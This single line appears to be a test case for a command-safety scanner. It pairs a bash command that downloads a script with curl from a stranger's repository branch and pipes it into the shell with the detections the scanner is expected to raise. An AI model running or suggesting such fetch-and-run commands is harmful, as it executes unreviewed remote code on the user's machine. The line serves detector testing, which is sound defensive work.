bash <(curl -s https://raw.githubusercontent.example/stranger/tools/refs/heads/main/i.sh) # expect: url-analyzer/moving-branch-code, malicious-command/pipe-to-shell
